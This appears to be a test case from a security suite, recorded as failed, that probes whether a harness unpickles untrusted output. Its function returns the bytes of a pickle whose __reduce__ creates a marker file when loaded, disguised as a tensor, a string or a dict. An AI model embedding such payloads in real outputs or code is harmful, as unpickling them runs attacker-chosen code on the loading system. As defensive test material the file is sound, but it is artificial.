# C20: answers with the bytes of a pickle that leaves a file where it is loaded
# due: 3
# verdict: failed
# not shown live: nothing of a child is unpickled
import pickle


class Payload:
    def __reduce__(self):
        return open, (T["root"] + "/" + T["marker"], "w")


def double(x):
    data = pickle.dumps(Payload())
    return [torch.tensor(list(data), dtype=torch.uint8), data.decode("latin-1"),
            {"__reduce__": data.decode("latin-1")}][x.dim() % 3]
